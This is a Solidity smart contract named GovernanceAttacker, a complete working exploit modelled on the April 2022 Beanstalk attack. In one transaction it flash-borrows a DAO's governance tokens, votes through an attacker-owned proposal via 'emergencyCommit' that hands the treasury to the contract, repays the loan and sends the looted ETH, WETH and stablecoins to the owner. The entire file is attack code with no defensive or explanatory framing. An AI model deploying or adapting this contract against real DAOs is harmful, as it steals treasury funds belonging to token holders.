// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IGovERC20 {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function approve(address, uint256) external returns (bool);
}

interface IGovernorLike {
    function hashProposal(address[] memory, uint256[] memory, bytes[] memory, bytes32)
        external
        pure
        returns (uint256);
    function castVote(uint256 proposalId, uint8 support) external returns (uint256);
    function emergencyCommit(address[] memory, uint256[] memory, bytes[] memory, bytes32)
        external
        returns (uint256);
}

interface IFlashPair {
    function token0() external view returns (address);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

interface IRouterLike {
    function swapExactTokensForTokens(uint256, uint256, address[] calldata, address, uint256)
        external
        returns (uint256[] memory);
}

/// @title GovernanceAttacker
/// @notice Takes over a DAO whose votes are weighed by current token balances, in one transaction
///         (the Beanstalk attack, April 2022): flash-swap most of the governance token out of its
///         AMM pair, vote for the owner's already-open proposal (which hands the treasury to this
///         contract), push it through `emergencyCommit`, repay the pair from the looted tokens plus
///         the 0.3% fee, sell the rest of the loot back into the pair and pay the owner.
contract GovernanceAttacker {
    IGovernorLike public immutable governor;
    IGovERC20 public immutable gov;
    IFlashPair public immutable pair;
    IRouterLike public immutable router;
    IGovERC20 public immutable weth;
    IGovERC20 public immutable usdx;
    address public immutable owner;

    event Takeover(uint256 indexed proposalId, uint256 borrowed, uint256 repaid);

    constructor(
        IGovernorLike governor_,
        IGovERC20 gov_,
        IFlashPair pair_,
        IRouterLike router_,
        IGovERC20 weth_,
        IGovERC20 usdx_
    ) {
        governor = governor_;
        gov = gov_;
        pair = pair_;
        router = router_;
        weth = weth_;
        usdx = usdx_;
        owner = msg.sender;
    }

    /// @notice Loot sent by the governor arrives here.
    receive() external payable {}

    /// @notice Borrow `amount` GOV for the duration of the vote and commit the given proposal.
    function attack(
        uint256 amount,
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata calldatas,
        bytes32 descriptionHash
    ) external {
        require(msg.sender == owner, "GovernanceAttacker: not owner");
        bytes memory data = abi.encode(targets, values, calldatas, descriptionHash);
        if (pair.token0() == address(gov)) pair.swap(amount, 0, address(this), data);
        else pair.swap(0, amount, address(this), data);
        _cashOut();
    }

    /// @notice The flash swap callback: vote with the borrowed GOV, commit, repay.
    function uniswapV2Call(address sender, uint256 amount0, uint256 amount1, bytes calldata data) external {
        require(msg.sender == address(pair) && sender == address(this), "GovernanceAttacker: bad callback");
        (address[] memory targets, uint256[] memory values, bytes[] memory calldatas, bytes32 descriptionHash) =
            abi.decode(data, (address[], uint256[], bytes[], bytes32));
        uint256 proposalId = governor.hashProposal(targets, values, calldatas, descriptionHash);
        governor.castVote(proposalId, 1);
        governor.emergencyCommit(targets, values, calldatas, descriptionHash);
        uint256 borrowed = amount0 + amount1;
        uint256 repaid = (borrowed * 1000) / 997 + 1;
        gov.transfer(address(pair), repaid);
        emit Takeover(proposalId, borrowed, repaid);
    }

    /// @dev Sell the GOV left over for WETH and send ETH, USDX and WETH to the owner.
    function _cashOut() private {
        uint256 left = gov.balanceOf(address(this));
        if (left > 0) {
            address[] memory path = new address[](2);
            path[0] = address(gov);
            path[1] = address(weth);
            gov.approve(address(router), left);
            router.swapExactTokensForTokens(left, 0, path, address(this), block.timestamp);
        }
        weth.transfer(owner, weth.balanceOf(address(this)));
        usdx.transfer(owner, usdx.balanceOf(address(this)));
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "GovernanceAttacker: payout failed");
    }
}
